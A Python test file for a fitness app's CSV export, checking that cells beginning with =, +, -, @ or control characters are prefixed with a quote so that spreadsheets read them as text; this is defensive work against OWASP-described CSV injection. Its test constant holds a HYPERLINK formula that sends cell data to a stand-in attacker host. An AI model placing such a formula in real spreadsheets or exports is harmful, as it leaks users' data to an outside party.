"""CSV export neutralises formulas (issue 11, item 11; OWASP "CSV Injection"): a name such as
``=HYPERLINK(...)`` must reach a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
from typer.testing import CliRunner

from stridewise.activity import build_activity
from stridewise.cli import app as cli_app
from stridewise.store import open_store
from stridewise.store.export import neutralise_cell

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def test_formula_cells_are_prefixed_with_a_quote() -> None:
    assert neutralise_cell(EVIL) == "'" + EVIL
    for text in ("+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"):
        assert neutralise_cell(text) == "'" + text
    for value in ("Morning run", "5 km = easy", -3.5, 7, None):
        assert neutralise_cell(value) == value


def test_an_activity_named_as_a_formula_is_exported_as_text(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'x.db'}"
    seconds = 600
    run = build_activity({"time_s": datetime(2024, 5, 1, 7, tzinfo=UTC).timestamp()
                          + np.arange(seconds, dtype=np.float64),
                          "distance_m": np.arange(seconds, dtype=np.float64) * 3.0},
                         sport="run", source_format="fit", name=EVIL, device="@watch")
    with open_store(url) as store:
        athlete_id = store.default_athlete_id()
        with store.write_transaction() as tx:
            tx.add_activity(athlete_id, replace(run, name=EVIL))
    out = tmp_path / "activities.csv"
    result = CliRunner().invoke(cli_app, ["export", "--out", str(out), "--db", url])
    assert result.exit_code == 0, result.output
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["name"] == "'" + EVIL
    assert rows[0]["device"] == "'@watch"
    assert float(rows[0]["distance_m"]) == 1797.0
